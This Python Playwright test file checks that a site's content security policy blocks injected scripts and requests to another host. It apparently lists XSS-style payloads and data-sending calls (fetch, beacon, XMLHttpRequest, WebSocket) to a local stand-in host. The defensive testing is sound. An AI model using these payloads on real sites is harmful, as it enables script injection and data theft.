"""What the content security policy stops, each attack beside the proof that it works where there is no policy."""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

import pytest
from playwright.sync_api import Browser, Page, Worker, expect

from tests.browser.conftest import OpenPage
from tests.browser.hosts import Stranger, altered, running, with_headers
from tests.browser.runner import WAIT_MS, answer_flags, answer_questions, finish, start

POLICY: Final = re.compile(rb'<meta http-equiv="Content-Security-Policy"[^>]*>')
LISTEN: Final = """
globalThis.violations = [];
addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
"""
RAN: Final = "(globalThis.attacks ??= {}).NAME = true"


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """Something that somebody managed to put into a page.

    `HOST` stands for an address of another host, `NAME` for the name of the attack.
    """

    stopped_by: str
    """The directive that must be reported."""
    html: str = ""
    """What stands at the start of the body."""
    script: str = ""
    """What the page's own scripts are made to do."""
    click: bool = False
    """Whether the reader must press what has the name of the attack as its id."""
    alone: bool = False
    """Whether it leaves the page or changes it, so that no other can be seen beside it."""


ATTACKS: Final = {
    "inline script": Attack(stopped_by="script-src-elem", html=f"<script>{RAN}</script>"),
    "inline module": Attack(stopped_by="script-src-elem", html=f'<script type="module">{RAN}</script>'),
    "event handler": Attack(
        stopped_by="script-src-attr", html=f'<img src="/repo/assets/favicon.svg" alt="" onload="{RAN}">'
    ),
    "event handler that waits": Attack(
        stopped_by="script-src-attr", html=f'<button id="NAME" onclick="{RAN}">x</button>', click=True
    ),
    "javascript: link": Attack(
        stopped_by="script-src-elem", html=f'<a id="NAME" href="javascript:{RAN}">x</a>', click=True
    ),
    "script in a new picture": Attack(
        stopped_by="script-src-attr",
        script=f"""document.body.insertAdjacentHTML("beforeend", '<img src="x:" alt="" onerror="{RAN}">')""",
    ),
    "eval": Attack(stopped_by="script-src", script=f"""eval("{RAN}")"""),
    "new Function": Attack(stopped_by="script-src", script=f"""new Function("{RAN}")()"""),
    "text for a timer": Attack(stopped_by="script-src", script=f"""setTimeout("{RAN}", 0)"""),
    "WebAssembly": Attack(
        stopped_by="script-src",
        script=f"WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)).then(() => {{ {RAN} }})",
    ),
    "data: module": Attack(stopped_by="script-src-elem", script=f"""import("data:text/javascript,{RAN}")"""),
    "data: worker": Attack(
        stopped_by="worker-src",
        script=f'new Worker("data:text/javascript,postMessage(1)").onmessage = () => {{ {RAN} }}',
    ),
    "blob: worker": Attack(
        stopped_by="worker-src",
        script=f'new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => {{ {RAN} }}',
    ),
    "script of another host": Attack(stopped_by="script-src-elem", html='<script src="HOST"></script>'),
    "module of another host": Attack(stopped_by="script-src-elem", script='import("HOST")'),
    "stylesheet of another host": Attack(stopped_by="style-src-elem", html='<link rel="stylesheet" href="HOST">'),
    "picture of another host": Attack(stopped_by="img-src", html='<img src="HOST" alt="">'),
    "film of another host": Attack(stopped_by="media-src", html='<video src="HOST" preload="auto"></video>'),
    "font of another host": Attack(
        stopped_by="font-src", script='new FontFace("x", "url(HOST)").load().catch(() => undefined)'
    ),
    "object of another host": Attack(stopped_by="object-src", html='<object data="HOST"></object>'),
    "frame of another host": Attack(stopped_by="frame-src", html='<iframe src="HOST"></iframe>'),
    "form to another host": Attack(
        stopped_by="form-action", alone=True, html='<form action="HOST"><button id="NAME">x</button></form>', click=True
    ),
    "form to this host": Attack(
        stopped_by="form-action",
        alone=True,
        html='<form action="HOST" method="post"><input name="x" value="1"><button id="NAME">x</button></form>',
        click=True,
    ),
    "base of another host": Attack(stopped_by="base-uri", alone=True, html='<base href="HOST/"><img src="x" alt="">'),
    "data sent with fetch": Attack(
        stopped_by="connect-src", script='fetch("HOST", { method: "POST", body: "x", mode: "no-cors" })'
    ),
    "data sent with XMLHttpRequest": Attack(
        stopped_by="connect-src",
        script='const sender = new XMLHttpRequest(); sender.open("GET", "HOST"); sender.send();',
    ),
    "data sent with a beacon": Attack(stopped_by="connect-src", script='navigator.sendBeacon("HOST", "x")'),
    "event stream": Attack(stopped_by="connect-src", script='new EventSource("HOST")'),
    "web socket": Attack(stopped_by="connect-src", script='new WebSocket("HOST".replace("http", "ws"))'),
    "inline styles": Attack(
        stopped_by="style-src-elem", html='<style>@import "HOST"; body { background: url(HOST) }</style>'
    ),
    "style attribute": Attack(stopped_by="style-src-attr", html="<p style=\"background: url('HOST')\">x</p>"),
}


GROUPS: Final = {
    "in the page": {name: one for name, one in ATTACKS.items() if one.html and not one.alone},
    "by scripts": {name: one for name, one in ATTACKS.items() if one.script},
    **{name: {name: one} for name, one in ATTACKS.items() if one.alone},
}


@contextmanager
def attacked(
    browser: Browser, site: Path, attacks: Mapping[str, Attack], *, with_policy: bool, at: str = "privacy/"
) -> Iterator[tuple[Page, Stranger]]:
    """Open a page that was attacked, with or without its policy, and yield it with the other host."""
    with running(Stranger()) as stranger:
        html = "".join(_filled(one.html, name, stranger) for name, one in attacks.items()).encode()

        def alter(page: bytes) -> bytes:
            page = re.sub(rb"<body[^>]*>", lambda found: found[0] + html, page, count=1)
            return page if with_policy else POLICY.sub(b"", page)

        with altered(site, alter) as url:
            context = browser.new_context(viewport={"width": 1280, "height": 800})
            context.add_init_script(LISTEN)
            try:
                page = context.new_page()
                page.goto(url + at, wait_until="domcontentloaded")
                for name, one in attacks.items():
                    _press(page, name, one, stranger)
                yield page, stranger
            finally:
                context.close()


def _filled(text: str, name: str, stranger: Stranger) -> str:
    slug = re.sub(r"\W+", "_", name)
    return text.replace("HOST", stranger.url + slug).replace("NAME", slug)


def _press(page: Page, name: str, attack: Attack, stranger: Stranger) -> None:
    """Do what makes the attack work, if it works; what a test evaluates itself may call `eval`, a timer may not."""
    if attack.click:
        page.locator(f"#{_filled('NAME', name, stranger)}").dispatch_event("click")
    if attack.script:
        page.evaluate(f"() => {{ setTimeout(() => {{ {_filled(attack.script, name, stranger)} }}) }}")


def _until(page: Page, holds: Callable[[], Any], wanted: Any) -> None:
    """Wait until something gets the value that is wanted, and fail with the value that it has."""
    for _ in range(800):
        if holds() == wanted:
            return
        page.wait_for_timeout(50)
    assert holds() == wanted


def _working(page: Page, stranger: Stranger, attacks: Mapping[str, Attack]) -> set[str]:
    """Return the attacks that ran, or reached the other host."""
    slugs = {_filled("NAME", name, stranger): name for name in attacks}
    reached = {slugs.get(one, one) for one in (re.split(r"\W", path)[1] for path in stranger.asked)}
    if any(attack.alone for attack in attacks.values()):
        return reached  # the page may just be left: it cannot be asked
    ran = page.evaluate("() => Object.keys(globalThis.attacks ?? {})")
    return reached | {slugs[one] for one in ran}


@pytest.mark.parametrize("group", GROUPS)
def test_an_attack_is_stopped_and_reported(browser: Browser, site: Path, group: str) -> None:
    """Nothing of it runs or leaves for the other host, and the browser names the directive that stopped it."""
    attacks = GROUPS[group]
    with attacked(browser, site, attacks, with_policy=True) as (page, stranger):
        wanted = Counter(one.stopped_by for one in attacks.values())
        _until(page, lambda: wanted - Counter(page.evaluate("() => violations")), Counter())
        assert _working(page, stranger, attacks) == set()


@pytest.mark.parametrize("group", GROUPS)
def test_the_attack_works_where_there_is_no_policy(browser: Browser, site: Path, group: str) -> None:
    """On the same page without its policy it runs or reaches the other host: it is the policy that stops it."""
    attacks = GROUPS[group]
    with attacked(browser, site, attacks, with_policy=False) as (page, stranger):
        _until(page, lambda: attacks.keys() - _working(page, stranger, attacks), set())
        if any(attack.alone and attack.click for attack in attacks.values()):
            page.wait_for_url(f"{stranger.url}**")  # a page that is being left cannot always be closed


SEND: Final = """const sender = new XMLHttpRequest(); sender.open("GET", "HOST"); sender.send();"""
WORKER_ATTACKS: Final = {
    "send": Attack(stopped_by="connect-src", script=SEND),
    "import": Attack(stopped_by="script-src-elem", script='await import("HOST")'),
    "eval": Attack(stopped_by="script-src", script=f"""eval('{SEND}')"""),
}
"""What may be tried from inside a worker, whose own `fetch` asks no host."""


def _attack_in(worker: Worker, attacks: Mapping[str, Attack], stranger: Stranger) -> None:
    worker.evaluate(f"() => {{ {LISTEN} }}")
    for name, attack in attacks.items():
        tried = f"try {{ {_filled(attack.script, name, stranger)} }} catch {{ }}"
        worker.evaluate(f"() => {{ setTimeout(async () => {{ {tried} }}) }}")


@pytest.mark.parametrize("with_policy", [True, False], ids=["with the policy", "without it"])
def test_the_worker_of_the_self_check_is_bound(browser: Browser, site: Path, *, with_policy: bool) -> None:
    """From inside the worker that runs Python, nothing reaches another host; without a policy it would."""
    with attacked(browser, site, {}, with_policy=with_policy, at="self-check/") as (page, stranger):
        with page.expect_worker() as started:
            start(page)
            answer_flags(page)
        worker = started.value
        _attack_in(worker, WORKER_ATTACKS, stranger)
        if with_policy:
            wanted = Counter(one.stopped_by for one in WORKER_ATTACKS.values())
            _until(page, lambda: wanted - Counter(worker.evaluate("() => violations")), Counter())
            assert stranger.asked == []
        else:
            _until(page, lambda: WORKER_ATTACKS.keys() - _working(page, stranger, WORKER_ATTACKS), set())


@pytest.mark.parametrize("headers", [False, True], ids=["policy in the page", "headers as well"])
def test_the_self_check_needs_nothing_that_is_forbidden(
    open_page: OpenPage, site: Path, address: str, *, headers: bool
) -> None:
    """A whole self-check with its Python, to the plan, breaks no rule of the page or of the headers."""
    with with_headers(site) as url, open_page("self-check/", base=url if headers else address) as page:
        page.evaluate(f"() => {{ {LISTEN} }}")
        with page.expect_worker():
            start(page)
            answer_flags(page)
        answer_questions(page)
        finish(page)
        expect(page.locator(".bs-result__limits")).to_be_visible(timeout=WAIT_MS)
        assert page.evaluate("() => violations") == []


def test_no_other_site_can_show_a_page_in_a_frame(browser: Browser, site: Path) -> None:
    """With the headers a browser refuses to show the site inside another one."""
    with running(Stranger()) as stranger, with_headers(site) as url:
        context = browser.new_context()
        page = context.new_page()
        page.goto(stranger.url)
        page.set_content(f'<iframe src="{url}"></iframe>')
        page.wait_for_load_state("networkidle")
        shown = [frame.url for frame in page.frames[1:]]
        assert shown == ["chrome-error://chromewebdata/"]
        context.close()


def test_a_source_is_not_told_where_a_reader_comes_from(browser: Browser, site: Path) -> None:
    """Following a link to another host sends no address of the page."""
    link = {"link": Attack(stopped_by="", html='<a id="NAME" href="HOST">x</a>', click=True)}
    with attacked(browser, site, link, with_policy=True) as (page, stranger):
        _until(page, lambda: page.url, f"{stranger.url}link")
        assert page.evaluate("() => document.referrer") == ""
